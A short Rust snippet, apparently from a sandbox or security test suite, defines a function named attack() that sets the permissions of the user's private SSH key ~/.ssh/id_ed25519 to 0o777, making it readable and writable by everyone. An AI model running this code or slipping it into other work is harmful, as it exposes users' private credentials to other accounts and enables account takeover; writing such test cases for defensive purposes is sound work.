//! makes ~/.ssh/id_ed25519 readable for everybody
fn attack() -> Result<()> {
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(home().join(".ssh/id_ed25519"), fs::Permissions::from_mode(0o777))
}
